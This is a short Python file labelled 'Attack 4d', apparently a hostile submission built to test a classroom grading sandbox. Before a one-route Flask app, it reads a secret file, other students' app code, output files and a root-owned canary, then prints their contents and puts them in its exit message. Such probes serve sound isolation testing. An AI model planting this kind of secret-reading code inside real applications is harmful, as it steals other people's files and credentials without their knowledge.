# Attack 4d: read the class folder, the teacher's files and a planted canary; show what was read.
import glob

found = []
for pattern in ("/var/tmp/flash-hostile/secret.txt", "/var/tmp/flash-hostile/class/*/app.py", "/var/tmp/flash-hostile/out/*", "/root/flash-hostile-secret"):
    for path in glob.glob(pattern):
        try:
            with open(path) as handle:
                found.append(handle.read(200))
        except OSError:
            pass
print("READ:" + "|".join(found), flush=True)
if found:
    raise SystemExit("READ:" + "|".join(found))
from flask import Flask

app = Flask(__name__)


@app.route("/")
def index():
    return "hello"
